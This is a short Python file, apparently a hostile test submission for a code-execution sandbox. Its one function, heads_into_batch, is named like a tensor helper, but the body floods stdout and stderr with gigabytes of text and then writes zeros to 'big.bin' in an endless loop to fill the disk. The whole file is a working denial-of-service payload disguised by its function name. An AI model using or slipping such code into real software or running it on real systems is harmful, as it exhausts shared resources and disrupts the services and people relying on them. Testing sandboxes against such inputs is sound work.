"""Flood stdout and stderr, and try to fill the disk."""
import sys


def heads_into_batch(x, num_heads):
    line = "x" * (1 << 20)
    for _ in range(10_000):
        print(line)
        sys.stderr.write(line)
    with open("big.bin", "wb") as f:
        while True:
            f.write(b"\0" * (1 << 24))
